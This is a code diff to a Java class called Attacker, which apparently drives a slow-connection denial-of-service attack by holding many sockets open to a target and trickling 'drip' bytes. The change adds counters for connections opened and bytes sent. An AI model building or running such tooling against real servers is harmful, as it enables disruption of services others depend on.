@@ -9,6 +9,7 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Set;
 import java.util.concurrent.ConcurrentHashMap;
+import java.util.concurrent.atomic.LongAdder;
 
 /** Connections to one target, and the threads that use them. Closing ends both. */
 public final class Attacker implements AutoCloseable {
@@ -18,6 +19,8 @@ public final class Attacker implements AutoCloseable {
 
     private final InetSocketAddress target;
     private final InetAddress source;
+    private final LongAdder opened = new LongAdder();
+    private final LongAdder sentBytes = new LongAdder();
     private final Set<SocketChannel> connections = ConcurrentHashMap.newKeySet();
     private final List<Thread> threads = new ArrayList<>();
     private volatile boolean stopped;
@@ -70,10 +73,15 @@ public final class Attacker implements AutoCloseable {
         });
     }
 
-    static void write(SocketChannel connection, byte[] bytes) throws IOException {
+    void write(SocketChannel connection, byte[] bytes) throws IOException {
         for (ByteBuffer rest = ByteBuffer.wrap(bytes); rest.hasRemaining(); ) {
-            connection.write(rest);
+            sentBytes.add(connection.write(rest));
         }
+    }
+
+    /** What has been done so far. */
+    Volume volume() {
+        return new Volume(opened.sum(), sentBytes.sum());
     }
 
     /** Reads and discards what the target sends, in the background. */
@@ -139,6 +147,7 @@ public final class Attacker implements AutoCloseable {
             connection.connect(target);
             connections.removeIf(old -> !old.isOpen());
             connections.add(connection);
+            opened.increment();
             return connection;
         } catch (IOException failure) {
             connection.close();
@@ -146,13 +155,13 @@ public final class Attacker implements AutoCloseable {
         }
     }
 
-    private static boolean isAlive(SocketChannel connection, byte[] drip) {
+    private boolean isAlive(SocketChannel connection, byte[] drip) {
         try {
             if (connection.read(ByteBuffer.allocate(1024)) < 0) {
                 connection.close();
                 return false;
             }
-            connection.write(ByteBuffer.wrap(drip));
+            sentBytes.add(connection.write(ByteBuffer.wrap(drip)));
             return true;
         } catch (IOException closed) {
             close(connection);
